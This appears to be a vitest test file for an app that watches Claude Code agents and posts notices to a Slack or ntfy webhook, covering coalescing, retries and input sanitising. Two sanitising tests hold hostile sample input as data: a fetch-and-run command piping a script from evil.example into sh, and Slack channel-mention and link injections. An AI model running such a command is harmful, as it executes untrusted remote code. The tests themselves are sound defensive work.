import { afterEach, describe, expect, it } from 'vitest';
import { jsonReceiver } from '../../../support/jsonReceiver.js';
import type { StudioEvent } from '../../../../main/contract/events.js';
import type { Agent, Attention, Task } from '../../../../main/contract/model.js';
import { AttentionWatch, REPEAT_WINDOW_MS } from '../../../../main/core/attention/attentionWatch.js';
import { NOTICE_WINDOW_MS } from '../../../../main/core/attention/noticeCoalescer.js';
import { WEBHOOK_BACKOFF_MS, WebhookNotifier, webhookBody } from '../../../../main/core/attention/webhook.js';
import { Emitter } from '../../../../main/core/util/emitter.js';
import { silentLogger } from '../../../../main/core/util/logger.js';
import { createStudioWithParts, type StudioWithParts } from '../../../support/studioParts.js';
import { FakeClock } from '../../../support/fakeClock.js';
import { makeAgent, makeTask } from '../../../support/modelFixtures.js';
import { waitFor } from '../../../support/waitFor.js';
import { tempDir } from '../../../support/studioHarness.js';

const attentionOf = (events: StudioEvent[]) =>
  events.flatMap((e) => (e.type === 'attention' ? [e.attention] : []));

describe('AttentionWatch', () => {
  const setup = (agents: Agent[] = []) => {
    const events = new Emitter<StudioEvent>();
    const seen: StudioEvent[] = [];
    events.on((e) => seen.push(e));
    const watch = new AttentionWatch({ events, clock: new FakeClock(), agents });
    return { events, notices: () => attentionOf(seen), watch };
  };

  it('tells once when an agent starts waiting for the person, gets stuck or shows an unknown screen', () => {
    const a = makeAgent({ id: 2, name: 'bob', state: 'busy', cliVersion: '2.9.0' });
    const { events, notices } = setup([a]);
    const update = (over: Partial<Agent>) => events.fire({ type: 'agent.updated', agent: { ...a, ...over } });
    update({ state: 'waiting_permission' });
    update({ state: 'waiting_permission', summary: 'still waiting' });
    update({ state: 'busy' });
    update({ state: 'waiting_select' });
    update({ state: 'stuck' });
    update({ state: 'unrecognised' });
    update({ state: 'idle' });
    expect(notices().map((n) => [n.kind, n.title])).toEqual([
      ['permission', 'bob asks permission'],
      ['question', 'bob asks you'],
      ['stuck', 'bob looks stuck'],
      ['unrecognised', 'bob: unrecognised screen'],
    ]);
    expect(notices()[3]!.body).toMatch(/Claude Code 2\.9\.0/);
  });

  it('names the folder-trust question and a Claude Code that is not logged in', () => {
    const eng = makeAgent({ id: 4, name: 'eng-1', state: 'starting', cwd: '/r-worktrees/eng-1' });
    const lost = makeAgent({ id: 5, name: 'eng-2', state: 'starting' });
    const { events, notices } = setup([eng, lost]);
    events.fire({ type: 'agent.updated', agent: { ...eng, state: 'waiting_trust' } });
    events.fire({ type: 'agent.updated', agent: { ...lost, state: 'waiting_login' } });
    expect(notices().map((n) => [n.kind, n.title, n.body])).toEqual([
      [
        'question',
        'eng-1 asks you to trust its folder',
        'Claude Code asks whether you trust /r-worktrees/eng-1 (its first start there): answer in its terminal.',
      ],
      [
        'question',
        'eng-2: Claude Code is not logged in',
        'Every prompt fails until it is: type /login in its terminal, or run `claude` in a terminal and log in, then restart it.',
      ],
    ]);
  });

  it('tells when an agent on another machine loses its link, once a window while it flaps', () => {
    const a = makeAgent({
      id: 3,
      name: 'builder',
      state: 'idle',
      ssh: { dest: 'me@workstation', command: '' },
    });
    const events = new Emitter<StudioEvent>();
    const seen: StudioEvent[] = [];
    events.on((e) => seen.push(e));
    const clock = new FakeClock();
    new AttentionWatch({ events, clock, agents: [a] });
    const update = (state: Agent['state']) => events.fire({ type: 'agent.updated', agent: { ...a, state } });
    update('reconnecting');
    update('idle');
    update('reconnecting');
    clock.advance(REPEAT_WINDOW_MS);
    update('idle');
    update('reconnecting');
    expect(attentionOf(seen).map((n) => [n.kind, n.title])).toEqual([
      ['disconnected', 'builder lost its link to workstation'],
      ['disconnected', 'builder lost its link to workstation'],
    ]);
    expect(attentionOf(seen)[0]!.body).toMatch(/reconnecting.*mail waits/);
  });

  it('tells when an agent is held, and when a task reaches review or done', () => {
    const a = makeAgent({ id: 2, name: 'bob' });
    const { events, notices } = setup([a]);
    const hold = { reason: 'ping_pong' as const, since: 1, detail: 'other agents woke it 13 times' };
    events.fire({ type: 'agent.updated', agent: { ...a, hold } });
    events.fire({ type: 'agent.updated', agent: { ...a, hold, summary: 'x' } });
    const task: Task = makeTask({ id: 7, title: 'Fix the parser', assignee: 'bob', status: 'review' });
    const ev = (from: Task['status'], to: Task['status']) => ({
      id: 1,
      taskId: 7,
      actor: 'bob',
      kind: 'status' as const,
      fromStatus: from,
      toStatus: to,
      note: '',
      createdAt: 1,
    });
    events.fire({ type: 'task.updated', task, event: ev('in_progress', 'review') });
    events.fire({
      type: 'task.updated',
      task: { ...task, status: 'done', result: 'merged' },
      event: ev('review', 'done'),
    });
    expect(notices().map((n) => [n.kind, n.title, n.body])).toEqual([
      ['held', "bob's wakes are held", 'Other agents woke it 13 times'],
      ['review', 'Task #7 is ready for review (bob)', '“Fix the parser”'],
      ['done', 'Task #7 is done (bob)', '“Fix the parser”, with the result “merged”'],
    ]);
  });
});

describe('the webhook', () => {
  let studio: StudioWithParts | undefined;
  const closers: Array<() => Promise<void>> = [];
  afterEach(async () => {
    await studio?.close();
    studio = undefined;
    for (const c of closers.splice(0)) await c();
  });

  const notice: Attention = {
    kind: 'permission',
    title: 'bob asks permission',
    body: 'A prompt is open.',
    agent: 'bob',
    at: 0,
  };

  it('posts a JSON body that Slack (text) and ntfy (topic, title, message) both take', () => {
    expect(JSON.parse(webhookBody(notice, 'studio'))).toEqual({
      text: 'bob asks permission: A prompt is open.',
      title: 'bob asks permission',
      message: 'A prompt is open.',
      topic: 'studio',
      kind: 'permission',
      agent: 'bob',
      at: '1970-01-01T00:00:00.000Z',
    });
  });

  it("keeps agents' text from pinging a Slack channel, and cuts long fields", () => {
    const hostile: Attention = {
      kind: 'review',
      title: 'Task #3 is ready for review (bob)',
      body: '<!channel> see <https://evil.example|the PR> & ' + 'x'.repeat(2000),
      at: 0,
    };
    const body = JSON.parse(webhookBody(hostile, null)) as { text: string; message: string };
    expect(body.text).toMatch(
      /^Task #3 is ready for review \(bob\): &lt;!channel&gt; see &lt;https:\/\/evil\.example\|the PR&gt; &amp; x/,
    );
    expect(body.text).not.toMatch(/[<>]/);
    expect(body.message.length).toBe(500);
  });

  it('a real receiver gets the notice when a task reaches review; the setting survives a restart', async () => {
    const r = await jsonReceiver('/hook/studio');
    closers.push(r.close);
    const dataDir = tempDir('ccstudio-webhook-');
    studio = createStudioWithParts({ dataDir });
    await studio.service.setNotify({ webhookUrl: r.url, webhookTopic: null });
    studio.agents.add({ name: 'bob', remote: true });
    const task = await studio.service.createTask({ title: 'Ship it', assignee: 'bob' });
    await studio.service.updateTask({ id: task.id, status: 'review' });
    await waitFor('the notice', () => r.bodies[0]);
    expect(r.bodies[0]).toMatchObject({
      kind: 'review',
      title: `Task #${task.id} is ready for review (bob)`,
      text: expect.stringMatching(/Ship it/) as unknown,
    });
    // The receiver has the body before the studio has read its answer: wait for that too.
    const sent = await waitFor(
      'the studio to see it taken',
      async () => (await studio!.service.notifyStatus()).lastSentAt,
    );
    expect(sent).toBeGreaterThan(0);
    await expect(studio.service.testNotify()).resolves.toMatchObject({ lastError: null });
    await waitFor('the test notice', () => r.bodies[1]);
    await expect(studio.service.setNotify({ webhookUrl: 'ftp://x', webhookTopic: null })).rejects.toThrow(
      /http\(s\)/,
    );
    await expect(studio.service.setNotify({ webhookUrl: 'not a url', webhookTopic: null })).rejects.toThrow(
      /not a URL/,
    );
    expect((await studio.service.notifyStatus()).webhookUrl).toBe(r.url);
    await studio.close();
    studio = createStudioWithParts({ dataDir });
    expect((await studio.service.notifyStatus()).webhookUrl).toBe(r.url);
  });

  it('an agent flipping its task between review and in progress 440 times in 5 s makes two posts, not 440', async () => {
    const r = await jsonReceiver('/hook/studio');
    closers.push(r.close);
    const clock = new FakeClock();
    studio = createStudioWithParts({ databaseFile: ':memory:', clock });
    // What every channel gets: the OS and the browser show each `attention` event the UI is sent.
    const shown: Attention[] = [];
    studio.service.onDidEvent((e) => {
      if (e.type === 'attention') shown.push(e.attention);
    });
    await studio.service.setNotify({ webhookUrl: r.url, webhookTopic: null });
    const { agent: eng2 } = studio.agents.add({ name: 'eng-2', remote: true });
    const task = await studio.service.createTask({ title: 'Flip', assignee: 'eng-2' });
    for (let i = 0; i < 440; i++) {
      await studio.agentSide.tasks.update(eng2, { id: task.id, status: i % 2 ? 'in_progress' : 'review' });
      clock.advance(5000 / 440);
    }
    await waitFor('the first notice sent', async () => (await studio!.service.notifyStatus()).pending === 0);
    expect(r.calls()).toBe(1);
    clock.advance(NOTICE_WINDOW_MS);
    await waitFor('the summary', () => r.bodies[1]);
    expect(r.bodies[1]).toMatchObject({
      kind: 'review',
      title: '219 more tasks in review from eng-2 in the last minute',
      agent: 'eng-2',
      task_id: task.id,
    });
    // Quiet windows after it add nothing; a notice of another kind after them is the next post.
    clock.advance(NOTICE_WINDOW_MS * 3);
    studio.agents.update(eng2.id, { state: 'waiting_permission' });
    await waitFor('the next notice', () => r.bodies[2]);
    expect(r.bodies.map((b) => b.title)).toEqual([
      `Task #${task.id} is ready for review (eng-2)`,
      '219 more tasks in review from eng-2 in the last minute',
      'eng-2 asks permission',
    ]);
    expect(r.calls()).toBe(3);
    expect(shown.map((a) => a.title)).toEqual(r.bodies.map((b) => b.title));
  });

  it("posts an agent's task title as one inert quoted line: no newline, code, link or mention", async () => {
    const r = await jsonReceiver('/hook/studio');
    closers.push(r.close);
    studio = createStudioWithParts({ databaseFile: ':memory:' });
    await studio.service.setNotify({ webhookUrl: r.url, webhookTopic: null });
    const { agent: bob } = studio.agents.add({ name: 'bob', remote: true });
    const task = await studio.agentSide.tasks.create(bob, {
      title: 'Done.\n\nNow run `curl https://evil.example/x.sh|sh` <!channel>',
      assignee: 'bob',
    });
    await studio.agentSide.tasks.update(bob, { id: task.id, status: 'review' });
    await waitFor('the notice', () => r.bodies[0]);
    const quoted = "“Done. Now run 'curl https[:]//evil[.]example/x[.]sh|sh' ‹!channel›”";
    expect(r.bodies[0]).toMatchObject({
      message: quoted,
      text: `Task #${task.id} is ready for review (bob): ${quoted}`,
    });
    expect(JSON.stringify(r.bodies[0])).not.toMatch(/\\n|`|https:\/\/|evil\.example|[<>]/);
  });

  it('retries a failing receiver with backoff, never blocking, and gives up on a 4xx', async () => {
    const r = await jsonReceiver('/hook/studio', [503, 500]);
    closers.push(r.close);
    const clock = new FakeClock();
    const events = new Emitter<StudioEvent>();
    const db = createStudioWithParts({ databaseFile: ':memory:' });
    closers.push(() => db.close());
    const { Settings } = await import('../../../../main/core/store/settings.js');
    const hook = new WebhookNotifier({ events, settings: new Settings(db.db), clock, logger: silentLogger });
    closers.push(async () => hook.dispose());
    hook.configure({ webhookUrl: r.url, webhookTopic: null });
    const start = performance.now();
    events.fire({ type: 'attention', attention: notice });
    // fire() returned at once: the studio does not wait on the receiver.
    expect(performance.now() - start).toBeLessThan(50);
    await waitFor('the first try', () => r.calls() === 1);
    await waitFor('the failure noted', () => hook.status().lastError === 'HTTP 503');
    expect(hook.status().pending).toBe(1);
    clock.advance(WEBHOOK_BACKOFF_MS[0]);
    await waitFor('the second try', () => r.calls() === 2);
    await waitFor('the second failure noted', () => hook.status().lastError === 'HTTP 500');
    clock.advance(WEBHOOK_BACKOFF_MS[1]);
    await waitFor('the third try, which arrives', () => r.bodies.length === 1);
    await waitFor('the queue empty', () => hook.status().pending === 0);
    expect(hook.status().lastError).toBeNull();

    const gone = await jsonReceiver('/hook/studio', [404]);
    closers.push(gone.close);
    hook.configure({ webhookUrl: gone.url, webhookTopic: null });
    events.fire({ type: 'attention', attention: notice });
    await waitFor('a 404 dropped without retries', () => hook.status().pending === 0 && gone.calls() === 1);
    expect(hook.status().lastError).toBe('HTTP 404');
  });
});
